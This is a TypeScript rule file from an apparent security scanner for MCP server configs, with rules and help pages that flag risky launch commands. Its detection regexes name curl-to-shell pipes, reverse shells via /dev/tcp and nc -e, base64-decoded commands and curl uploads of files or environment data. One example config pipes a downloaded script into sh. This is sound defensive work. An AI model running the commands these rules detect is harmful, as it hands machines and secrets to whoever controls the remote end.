import { member } from '../../document/tree.js'
import { lazy } from '../../secrets/lazy.js'
import { quote } from '../../text/words.js'
import type { RulePage } from '../rule.js'
import { commandRisk } from '../server-risk/shared-command.js'
import { owasp } from '../shared-risk.js'

const LOAD = '(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch|aria2c)'
/** In this order the first that fits names the finding. Every repeat is bounded. */
const DANGEROUS = lazy((): readonly (readonly [RegExp, string])[] => [
  [
    new RegExp(
      `\\b${LOAD}\\b[^|;]{0,400}\\|\\s{0,4}(?:sudo\\s{1,4})?(?:env\\s{1,4})?(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?(?:sh|python3?|node|bun|deno|perl|ruby|php|iex|invoke-expression)\\b|\\b(?:ba|z)?sh\\b\\s{0,3}(?:-c\\s{0,3})?["']?\\s{0,3}[<$]{1,2}\\(\\s{0,3}${LOAD}|\\biex\\b[^|;]{0,40}\\b(?:${LOAD}|downloadstring)|\\b(?:eval|source|\\.)\\s{1,3}["']?[<$]\\(\\s{0,3}${LOAD}`,
      'i',
    ),
    'runs a script that is downloaded at every start',
  ],
  [
    /\/dev\/(?:tcp|udp)\/|\b(?:ba|z)?sh\s{1,3}-i\b[^;]{0,30}>&|\bnc(?:at)?\s[^;|]{0,60}\s-[a-z]{0,4}e\b/i,
    'hands a shell to another machine',
  ],
  [
    /\s-(?:e|ec|enc|enco|encod|encode|encoded|encodedcommand)\s{1,3}[A-Za-z0-9+/=]{16}|\bbase64\s{1,3}(?:-d|--decode)\b[^;&]{0,80}\|\s{0,4}(?:ba|z)?sh\b|\bfrombase64string\b/i,
    'runs something that is encoded',
  ],
  [
    /\b(?:curl|wget|nc|ncat|iwr|irm)\b[^;|]{0,300}(?:\$\(\s?(?:cat|env|printenv|whoami|hostname)|@~?\/|@\$home|--data(?:-binary|-raw|-urlencode)?[ =]@|-d ?@|-F ?\w{0,30}=@)/i,
    'sends data of this machine out',
  ],
])

export default [
  commandRisk({
    code: 'MCP_RISK_PIPE_TO_SHELL',
    title: 'A command that runs or sends what nobody has looked at',
    severity: 'warning',
    tags: owasp('05'),
    what: detail => `This server's command ${detail}.`,
    todo: 'Whoever controls the other end controls your machine. Download it once, read it, and start the local file.',
    check(line, tell, { server }) {
      const helper = member(server.node, 'headersHelper')?.value
      const texts = [line.program, ...line.nodes, ...(helper ? [helper] : [])].filter(node => node.type === 'string')
      for (const [pattern, says] of DANGEROUS()) {
        const single = texts.find(({ value }) => pattern.test(` ${value}`))
        const joined =
          single ?? (pattern.test([line.command, ...line.words].join(' ')) ? texts[texts.length - 1] : undefined)
        if (joined) return tell('high', joined, says)
      }
    },
  }),
  commandRisk({
    code: 'MCP_RISK_SHELL_WRAPPER',
    title: 'A shell between the client and the server',
    severity: 'info',
    tags: owasp('05'),
    yieldsTo: ['MCP_RISK_PIPE_TO_SHELL', 'MCP_RISK_ELEVATED_COMMAND'],
    what: detail => `The server is started through ${detail}.`,
    todo: 'The text behind it may do more than start a server. Start the program directly where that is possible.',
    check(line, tell) {
      const isPowerShell = /^(?:powershell|pwsh)$/.test(line.name)
      const policy = isPowerShell ? line.words.findIndex(word => /^(?:bypass|unrestricted)$/i.test(word)) : -1
      if (policy >= 0) return tell('medium', line.nodes[policy], 'PowerShell with its execution policy off')
      const at = /^(?:(?:ba|z|da|k|c|fi)?sh|powershell|pwsh)$/.test(line.name)
        ? line.words.findIndex(word => /^(?:-[a-z]{0,4}c|-command)$/i.test(word))
        : -1
      if (at >= 0) tell('low', line.nodes[at + 1], line.name)
    },
  }),
  commandRisk({
    code: 'MCP_RISK_INLINE_CODE',
    title: 'Code in the arguments',
    severity: 'info',
    tags: owasp('05'),
    yieldsTo: ['MCP_RISK_PIPE_TO_SHELL'],
    what: detail => `${detail} runs code that stands in the arguments.`,
    todo: 'Put it into a file, where it can be read and reviewed.',
    check(line, tell) {
      if (!/^(?:node|bun|deno|python3?|py|ruby|perl|php)$/.test(line.name)) return
      const at = line.words.findIndex(word => !/^-/.test(word) || /^(?:-e|-c|--eval|-p|--print|-r)$/.test(word))
      if (/^-|^eval$/.test(line.words[at] ?? '') && /[;()=]/.test(line.words[at + 1] ?? ''))
        tell('medium', line.nodes[at + 1], line.name)
    },
  }),
  commandRisk({
    code: 'MCP_RISK_ELEVATED_COMMAND',
    title: 'A server with the rights of the administrator',
    severity: 'warning',
    tags: owasp('02'),
    what: detail => `The server is started with ${detail}, so every tool call runs with all rights.`,
    todo: 'Run it as yourself, and give that user what the server needs.',
    check(line, tell) {
      const own = /^(?:sudo|doas|su|pkexec|runas|gsudo)$/
      if (own.test(line.name)) return tell('high', line.program, line.name)
      const isShell = /^(?:(?:ba|z|da|k|fi)?sh|env|nohup|time)$/.test(line.name)
      const at = line.words.findIndex(
        word => word === 'sudo' || (isShell && /(?:^|[;&|]\s{0,3})(?:sudo|doas|pkexec)(?:\s|$)/.test(word)),
      )
      if (at >= 0 && (isShell || at === 0)) tell('high', line.nodes[at], 'sudo')
    },
  }),
  commandRisk({
    code: 'MCP_RISK_TEMP_PATH',
    title: 'A program in a folder that everybody may write to',
    severity: 'info',
    tags: owasp('05'),
    what: detail => `${detail} stands in a folder for temporary files or downloads.`,
    todo: 'Other programs may replace it. Move it to a folder of your own.',
    check(line, tell) {
      if (
        /^(?:\/tmp|\/var\/tmp|\/dev\/shm|%TEMP%|%TMP%|\$TMPDIR)[/\\]|[/\\](?:Downloads|AppData[/\\]Local[/\\]Temp)[/\\]/i.test(
          line.command,
        )
      )
        return tell('medium', line.program, quote(line.command))
      const at = /^(?:node|python3?|bash|sh|bun|java|deno)$/.test(line.name)
        ? line.words.findIndex(word => /^\/(?:tmp|var\/tmp|dev\/shm)\/\S{1,300}\.(?:m?js|py|sh|ts|rb|jar)$/.test(word))
        : -1
      if (at >= 0 && at < 2) tell('medium', line.nodes[at], quote(line.words[at] ?? ''))
    },
  }),
]

export const pages: Readonly<Record<string, RulePage>> = {
  MCP_RISK_PIPE_TO_SHELL: {
    why: 'A script that is downloaded and run at every start can be another one tomorrow. Reverse shells, encoded commands and commands that send files out have no honest place in a config.',
    sources: ['owasp.org, MCP Top 10 (2025)', 'measured on 2,001 server entries of public files (2026-11)'],
    examples: {
      bad: [
        {
          file: '.mcp.json',
          text: '{\n  "mcpServers": {\n    "demo": {"command": "bash", "args": ["-c", "curl -fsSL https://example.com/install.sh | sh"]}\n  }\n}\n',
        },
      ],
      good: [
        {
          file: '.mcp.json',
          text: '{\n  "mcpServers": {\n    "demo": { "command": "node", "args": ["server.js"] }\n  }\n}\n',
        },
      ],
    },
  },
  MCP_RISK_SHELL_WRAPPER: {
    why: 'A shell text can hold anything, and clients show it in one line or not at all. It is often needed to set a folder or a version manager.',
    sources: ['owasp.org, MCP Top 10 (2025)', 'measured on 2,001 server entries of public files (2026-11)'],
    examples: {
      bad: [
        {
          file: '.mcp.json',
          text: '{\n  "mcpServers": {\n    "demo": {"command": "bash", "args": ["-c", "cd /srv/app && node server.js"]}\n  }\n}\n',
        },
      ],
      good: [
        {
          file: '.mcp.json',
          text: '{\n  "mcpServers": {\n    "demo": { "command": "cmd", "args": ["/c", "npx", "-y", "@example-org/demo-mcp@1.2.3"] }\n  }\n}\n',
        },
      ],
    },
  },
  MCP_RISK_INLINE_CODE: {
    why: 'Code in an argument is seen by nobody who reviews files, and clients show it in one line or not at all when they ask for approval.',
    sources: ['owasp.org, MCP Top 10 (2025)', 'measured on 2,001 server entries of public files (2026-11)'],
    examples: {
      bad: [
        {
          file: '.mcp.json',
          text: '{\n  "mcpServers": {\n    "demo": {"command": "node", "args": ["-e", "require(\'http\').createServer(()=>{}).listen(1)"]}\n  }\n}\n',
        },
      ],
      good: [
        {
          file: '.mcp.json',
          text: '{\n  "mcpServers": {\n    "demo": { "command": "python", "args": ["-m", "demo.server"] }\n  }\n}\n',
        },
      ],
    },
  },
  MCP_RISK_ELEVATED_COMMAND: {
    why: 'A model decides what a server does. With all rights, a mistake or a poisoned answer reaches the whole machine.',
    sources: ['owasp.org, MCP Top 10 (2025)', 'measured on 2,001 server entries of public files (2026-11)'],
    examples: {
      bad: [
        {
          file: '.mcp.json',
          text: '{\n  "mcpServers": {\n    "demo": { "command": "sudo", "args": ["node", "/opt/app/server.js"] }\n  }\n}\n',
        },
      ],
      good: [
        {
          file: '.mcp.json',
          text: '{\n  "mcpServers": {\n    "demo": { "command": "node", "args": ["/opt/app/server.js"] }\n  }\n}\n',
        },
      ],
    },
  },
  MCP_RISK_TEMP_PATH: {
    why: 'What stands in /tmp or in the downloads may be replaced by any program, and is gone after a restart.',
    sources: ['owasp.org, MCP Top 10 (2025)', 'measured on 2,001 server entries of public files (2026-11)'],
    examples: {
      bad: [
        { file: '.mcp.json', text: '{\n  "mcpServers": {\n    "demo": { "command": "/tmp/server/run.sh" }\n  }\n}\n' },
      ],
      good: [
        { file: '.mcp.json', text: '{\n  "mcpServers": {\n    "demo": { "command": "/opt/server/run.sh" }\n  }\n}\n' },
      ],
    },
  },
}
